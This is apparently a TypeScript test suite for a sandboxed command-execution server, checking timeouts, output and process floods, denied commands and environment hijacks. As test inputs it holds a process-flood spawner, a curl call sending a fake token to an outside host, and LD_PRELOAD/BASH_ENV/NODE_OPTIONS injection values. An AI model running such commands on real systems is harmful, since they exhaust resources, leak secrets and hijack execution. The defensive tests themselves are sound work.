import { randomBytes } from "node:crypto";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CLI, startWarden, type WardenClient } from "../support/warden-client.js";
import { cleanup, processesWith, tempDir } from "./support.js";

/** Resident memory of the server process (kB), found by its unique root argument. */
function serverRssKb(root: string): number {
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const cmdline = readFileSync(`/proc/${name}/cmdline`, "utf8");
      if (cmdline.includes(CLI) && cmdline.includes(root)) {
        return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${name}/status`, "utf8"))![1]);
      }
    } catch {
      // gone
    }
  }
  throw new Error("server process not found");
}

/**
 * The limits through the real server (`warden serve` over stdio, the SDK client): after a runaway
 * loop, an output flood and a process flood the server is still answering, its memory stayed
 * bounded and nothing was left running.
 */
describe.skipIf(!existsSync(CLI))("execute_command limits through the real server", () => {
  let root: string;
  let w: WardenClient;
  const structured = (r: { structuredContent?: unknown }) => r.structuredContent as Record<string, unknown>;

  beforeAll(async () => {
    root = tempDir("server-limits");
    w = await startWarden(["--root", root, ...["node", "yes", "echo", "sleep", "cat"].flatMap((p) => ["--allow", p])]);
  });
  afterAll(async () => {
    await w.close();
    cleanup(root);
  });

  const stillAnswers = async () => {
    const r = await w.call("execute_command", { command: "echo alive" });
    expect(structured(r)).toMatchObject({ exit_code: 0, stdout: "alive\n" });
  };

  it("reports bubblewrap confinement in get_system_info", async () => {
    const r = await w.call("get_system_info");
    expect(structured(r)).toMatchObject({ confinement: "bubblewrap", backend: "native", privileged: false });
  });

  it("stops a runaway loop near its timeout and keeps answering", async () => {
    const marker = `warden-srv-loop-${randomBytes(3).toString("hex")}`;
    const t = Date.now();
    const r = await w.call("execute_command", { command: `node -e "for(;;){}" ${marker}`, timeout: 2 });
    expect(structured(r)).toMatchObject({ timed_out: true, exit_code: null });
    expect(Date.now() - t).toBeLessThan(2000 + 2000 + 2000);
    expect(processesWith(marker)).toEqual([]);
    await stillAnswers();
  });

  it("truncates an output flood with the server's memory bounded", async () => {
    const before = serverRssKb(root);
    const r = await w.call("execute_command", { command: "yes flood", timeout: 3 });
    const s = structured(r);
    expect(s).toMatchObject({ timed_out: true, truncated: true });
    expect(String(s.stdout).length).toBeLessThanOrEqual(1024 * 1024 + 100);
    expect(serverRssKb(root) - before).toBeLessThan(150 * 1024);
    await stillAnswers();
  });

  it("stops a process flood and leaves nothing behind", async () => {
    const marker = `warden-srv-flood-${randomBytes(3).toString("hex")}`;
    const flood = `node -e "const {spawn}=require('child_process'); let n=0; for(;;){ try { spawn('/usr/bin/sleep',['100']); n++ } catch (e) { console.log('stopped after', n, e.code); break } }" ${marker}`;
    const r = await w.call("execute_command", { command: flood, timeout: 5 });
    expect(r.isError ?? false).toBe(false);
    await new Promise((res) => setTimeout(res, 300));
    expect(processesWith(marker)).toEqual([]);
    await stillAnswers();
  });

  it("sends progress notifications while a command runs (the client sent a progressToken)", async () => {
    const progress: unknown[] = [];
    const r = await w.client.callTool({ name: "execute_command", arguments: { command: "sleep 6" } }, undefined, {
      onprogress: (p) => progress.push(p),
      timeout: 30_000,
    });
    expect(structured(r as { structuredContent?: unknown })).toMatchObject({ exit_code: 0 });
    expect(progress.length).toBeGreaterThanOrEqual(1);
  });

  it("denies with isError naming the rule, without the denied content", async () => {
    const r = await w.call("execute_command", { command: "curl http://example.com/leak-token-123" });
    expect(r.isError).toBe(true);
    expect(w.text(r)).not.toContain("leak-token-123");
  });

  it("refuses caller env hijacks", async () => {
    for (const env of [{ PATH: "/tmp" }, { LD_PRELOAD: "/tmp/x.so" }, { BASH_ENV: "/tmp/x" }, { NODE_OPTIONS: "--require /tmp/x.js" }]) {
      const r = await w.call("execute_command", { command: "echo hi", env });
      expect(r.isError).toBe(true);
      expect(w.text(r)).toContain("execution.env.denied");
    }
  });

  it("runs a background process: start, read by offset, write, list, kill", async () => {
    const start = await w.call("execute_command", { command: "cat", background: true });
    const handle = String(structured(start).handle);
    expect(handle).toMatch(/^p/);
    expect((await w.call("write_process_input", { handle, input: "one\n" })).isError ?? false).toBe(false);
    let out: Record<string, unknown> = {};
    for (let i = 0; i < 100 && out.output !== "one\n"; i++) {
      out = structured(await w.call("read_process_output", { handle, offset: 0 }));
      await new Promise((res) => setTimeout(res, 20));
    }
    expect(out).toMatchObject({ output: "one\n", next_offset: 4, running: true });
    await w.call("write_process_input", { handle, input: "two\n" });
    for (let i = 0; i < 100 && out.output !== "two\n"; i++) {
      out = structured(await w.call("read_process_output", { handle, offset: 4 }));
      await new Promise((res) => setTimeout(res, 20));
    }
    expect(out).toMatchObject({ output: "two\n", offset: 4, next_offset: 8 });
    const list = structured(await w.call("list_processes"));
    expect(JSON.stringify(list)).toContain(handle);
    expect(structured(await w.call("kill_process", { handle }))).toMatchObject({ running: false });
  });
});
